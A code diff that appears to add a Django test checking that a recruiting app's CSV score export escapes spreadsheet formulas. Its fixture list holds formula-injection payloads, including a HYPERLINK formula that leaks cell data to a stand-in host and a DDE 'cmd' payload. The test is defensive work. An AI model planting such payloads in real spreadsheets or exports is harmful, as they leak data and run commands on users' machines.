@@ -74,3 +74,27 @@ def test_ties_confidence_and_flags_columns(tmp_path):
     call_command("export_scores", "--vacancy", "tie", "--top", "1", "--format", "jsonl", "--out", str(out))
     line = json.loads(out.read_text())
     assert line["rank"] == 1 and line["tied"] is True and line["flags"][0]["code"] == "keyword_list"
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
+            "\tTAB", "\rCR"]
+
+
+def test_csv_escapes_spreadsheet_formulas_in_references(tmp_path):
+    """Issue 16, finding 7: a reference a spreadsheet would run as a formula is written as text (leading ')."""
+    from recruiting.models import Vacancy
+    from tests.factories import CandidateFactory, ContractMatchScoreFactory
+
+    vacancy = Vacancy.objects.create(source="t", reference="=1+1", title="Formula", description="x")
+    for i, ref in enumerate(FORMULAS):
+        ContractMatchScoreFactory(vacancy=vacancy, candidate=CandidateFactory(reference=ref), score=90.0 - i)
+    out = tmp_path / "scores.csv"
+    call_command("export_scores", "--format", "csv", "--out", str(out))
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    assert [r["candidate_ref"] for r in rows] == ["'" + ref for ref in FORMULAS]
+    assert {r["vacancy_ref"] for r in rows} == {"'=1+1"}
+    assert rows[0]["score"] == "90.0"  # numbers are not touched
+    # JSONL is data, not a spreadsheet: left as it is.
+    out = tmp_path / "scores.jsonl"
+    call_command("export_scores", "--format", "jsonl", "--out", str(out))
+    assert [json.loads(x)["candidate_ref"] for x in out.read_text().splitlines()] == FORMULAS
